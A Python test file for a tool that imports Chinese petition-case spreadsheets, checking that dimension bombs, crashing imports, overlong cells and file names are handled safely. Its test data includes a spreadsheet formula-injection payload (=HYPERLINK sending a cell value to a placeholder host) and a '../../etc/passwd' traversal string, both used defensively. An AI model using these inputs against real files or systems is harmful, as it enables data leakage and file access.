"""An import cannot take down whoever asked for it: it runs in a child process under a memory
ceiling, a workbook whose grid would not fit is refused before any reader lays it out, a giant
cell is cut to Excel's limit, and a child that dies leaves no half-written copy behind."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import openpyxl
import pytest

from minyi import db, snapshot_files
from minyi.__main__ import main
from minyi.ingest import isolated
from minyi.ingest.raw_table import MAX_CELL_CHARS
from minyi.ingest.upload import Upload, run_upload, safe_file_name

HEADER = ["信访件编号", "信访时间", "所属乡镇", "承办单位", "办结时间", "主要内容"]


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def _dimension_bomb(path: Path) -> Path:
    """Two real rows, and one cell at the sheet's far corner: 5 KB on disk, 16,384 × 1,048,576 as a grid."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["XF001", "2024-03-01", "河口镇", "县信访局", "", "路灯不亮"])
    sheet["XFD1048576"] = "x"
    book.save(path)
    return path


@pytest.fixture()
def published(tmp_path):
    """A database with one published import of three cases."""
    db_path = tmp_path / "county.duckdb"
    export = _write_csv(tmp_path / "first.csv", [[f"XF{i}", "2024-03-01", "河口镇", "县信访局", "", "事项"]
                                                  for i in range(3)])
    assert main(["import", str(export), "--db", str(db_path)]) == 0
    return db_path


def _snapshot_files(db_path: Path) -> list[Path]:
    return sorted(snapshot_files.snapshot_dir(db_path).glob("*.duckdb*"))


def test_a_dimension_bomb_is_refused_in_chinese_naming_the_far_cell(published, tmp_path, capsys):
    before = _snapshot_files(published)
    status = main(["import", str(_dimension_bomb(tmp_path / "bomb.xlsx")), "--db", str(published)])
    error = capsys.readouterr().err
    assert status == 2
    assert "XFD1048576" in error and "1,048,576 行 × 16,384 列" in error and "Ctrl+End" in error
    assert "Traceback" not in error
    assert _snapshot_files(published) == before  # no copy left behind, the published one untouched


def test_the_upload_box_reports_a_dimension_bomb_and_the_server_lives_on(published, tmp_path):
    bomb = _dimension_bomb(tmp_path / "bomb.xlsx")
    verdict = run_upload(published, [Upload("bomb.xlsx", bomb.read_bytes())])
    assert verdict.level == "error" and "XFD1048576" in verdict.text and not verdict.published


def crash_after_copying(db_path: Path, files: list[Path], progress=None) -> None:
    """Open a new snapshot copy, as an import does, then die as calamine does when an allocation
    fails (SIGABRT): no Python cleanup runs."""
    with snapshot_files.publishing(db_path):
        os.abort()


def fail_for_lack_of_memory(db_path: Path, files: list[Path], progress=None) -> None:
    with snapshot_files.publishing(db_path):
        raise MemoryError


def fail_with_a_bug(db_path: Path, files: list[Path], progress=None) -> None:
    raise KeyError("/srv/minyi/secret/path")


def test_a_child_that_dies_mid_import_leaves_no_copy_and_a_chinese_message(published):
    before = _snapshot_files(published)
    with pytest.raises(isolated.ImportCrashed, match="导入进程异常终止.*数据库未改变"):
        isolated.run_in_child(crash_after_copying, published, [])
    assert _snapshot_files(published) == before
    assert snapshot_files.current_snapshot(published) == before[0]


def test_running_out_of_memory_and_bugs_read_as_chinese_without_paths(published):
    with pytest.raises(isolated.ImportCrashed, match="内存超过上限（MINYI_IMPORT_MEMORY_MB="):
        isolated.run_in_child(fail_for_lack_of_memory, published, [])
    with pytest.raises(isolated.ImportCrashed) as raised:
        isolated.run_in_child(fail_with_a_bug, published, [])
    assert "错误编号" in str(raised.value) and "/srv" not in str(raised.value)
    assert len(_snapshot_files(published)) == 1


def test_copies_left_by_earlier_crashes_go_even_when_the_next_import_fails(published, tmp_path):
    """Six crashes once left six full copies: the next writer, whatever becomes of its own import,
    removes every copy newer than the published snapshot, and keeps older ones (readers may hold them)."""
    leftovers = [snapshot_files.snapshot_dir(published) / f"county-20990101T00000{n}-1-{n}.duckdb" for n in range(3)]
    for leftover in leftovers:
        leftover.write_bytes(b"half an import")
    older = snapshot_files.snapshot_dir(published) / "county-19990101T000000-1-1.duckdb"
    older.write_bytes(b"an earlier snapshot")
    os.utime(older, (0, 0))
    assert main(["import", str(_dimension_bomb(tmp_path / "bomb.xlsx")), "--db", str(published)]) == 2
    assert not any(leftover.exists() for leftover in leftovers)
    assert older.exists() and snapshot_files.current_snapshot(published).exists()


def test_a_cell_longer_than_excel_allows_is_cut_with_a_warning(tmp_path, capsys):
    db_path = tmp_path / "county.duckdb"
    export = _write_csv(tmp_path / "long.csv", [["XF1", "2024-03-01", "河口镇", "县信访局", "", "长" * 100_000],
                                                ["XF2", "2024-03-01", "河口镇", "县信访局", "", "短"]])
    assert main(["import", str(export), "--db", str(db_path)]) == 0
    out = capsys.readouterr().out
    assert f"第2行「主要内容」超过{MAX_CELL_CHARS}个字符" in out
    lengths = db.open_reader(db_path).execute("select case_id, length(summary) from cases order by 1").fetchall()
    assert lengths == [("XF1", MAX_CELL_CHARS), ("XF2", 1)]


def test_an_upload_with_a_very_long_name_imports_under_a_shortened_name(tmp_path):
    db_path = tmp_path / "county.duckdb"
    export = _write_csv(tmp_path / "x.csv", [["XF1", "2024-03-01", "河口镇", "县信访局", "", "事项"]])
    name = "信" * 90 + ".csv"  # 274 bytes in UTF-8: more than a file name may have
    verdict = run_upload(db_path, [Upload(name, export.read_bytes())])
    assert verdict.level == "success", verdict.text
    assert len(safe_file_name(name).encode()) <= 200 and safe_file_name(name).endswith(".csv")
    assert safe_file_name("../../etc/passwd") == "passwd" and safe_file_name("..") == "上传文件"


def test_what_an_import_writes_is_readable_by_its_owner_only(tmp_path):
    db_path = tmp_path / "county.duckdb"
    export = _write_csv(tmp_path / "bad.csv", [["XF1", "2024-03-01", "河口镇", "县信访局", "", "事项"],
                                               ["XF2", "not a date", "河口镇", "县信访局", "", "事项"]])
    main(["import", str(export), "--db", str(db_path)])
    written = [*snapshot_files.snapshot_dir(db_path).iterdir(), *(db_path.parent / "quarantine").rglob("*")]
    assert any(path.suffix == ".csv" for path in written)
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
    assert stat.S_IMODE(snapshot_files.snapshot_dir(db_path).stat().st_mode) & 0o077 == 0


def test_an_unreadable_setting_is_refused_in_chinese(published, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("MINYI_IMPORT_MEMORY_MB", "lots")
    export = _write_csv(tmp_path / "x.csv", [["XF1", "2024-03-01", "河口镇", "县信访局", "", "事项"]])
    assert main(["import", str(export), "--db", str(published)]) == 2
    assert "MINYI_IMPORT_MEMORY_MB 应为数字" in capsys.readouterr().err


def test_quarantine_folders_older_than_the_setting_are_deleted_at_the_next_import(published, tmp_path,
                                                                                  monkeypatch):
    monkeypatch.setenv("MINYI_QUARANTINE_DAYS", "30")
    root = published.parent / "quarantine"
    old, recent = root / "20240101T000000-import-1", root / "20240301T000000-import-2"
    for folder, age_days in ((old, 31), (recent, 29)):
        folder.mkdir(parents=True)
        (folder / "x.rejected.csv").write_text("行号,原因\n", encoding="utf-8")
        os.utime(folder, (os.path.getmtime(folder) - age_days * 86400,) * 2)
    export = _write_csv(tmp_path / "next.csv", [["XF9", "2024-03-02", "河口镇", "县信访局", "", "事项"]])
    assert main(["import", str(export), "--db", str(published)]) == 0
    assert not old.exists() and recent.exists()


def test_rejected_rows_are_kept_formula_safe(tmp_path):
    """A quarantine file opened in Excel must not run =HYPERLINK(…) from an export's cell."""
    db_path = tmp_path / "county.duckdb"
    payload = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
    export = _write_csv(tmp_path / "bad.csv", [["XF1", "not a date", "+河口镇", "@县信访局", "", payload]])
    main(["import", str(export), "--db", str(db_path)])
    rejected = next((db_path.parent / "quarantine").rglob("*.rejected.csv"))
    with open(rejected, encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row))
    assert cells["主要内容"].startswith("'=HYPERLINK(") and cells["所属乡镇"] == "'+河口镇"
    assert cells["承办单位"] == "'@县信访局"


def test_tables_on_screen_offer_no_csv_download_and_no_copy():
    """Streamlit's own table toolbar writes CSV without any formula guard: it is switched off, and
    every table has an .xlsx button instead (minyi.spreadsheet, formula-safe)."""
    import tomllib

    settings = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True


def return_nothing(db_path: Path, files: list[Path], progress=None) -> str:
    return "done"


def test_the_import_child_does_not_run_the_dashboard_script_again(published, tmp_path, monkeypatch):
    """Streamlit installs the running script (dashboard.py) as `__main__`, and a spawned child runs
    `__main__` again before its target: the upload's import child would draw the dashboard, build a
    demo or open ClickHouse first. Here a stand-in script marks that it ran."""
    import sys
    import types

    marker = tmp_path / "script-ran"
    script = tmp_path / "stand_in_dashboard.py"
    script.write_text(f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n", encoding="utf-8")
    fake_main = types.ModuleType("__main__")
    fake_main.__file__ = str(script)
    monkeypatch.setitem(sys.modules, "__main__", fake_main)
    assert isolated.run_in_child(return_nothing, published, []) == "done"
    assert not marker.exists()
    assert fake_main.__spec__ is None  # left as the script runner made it
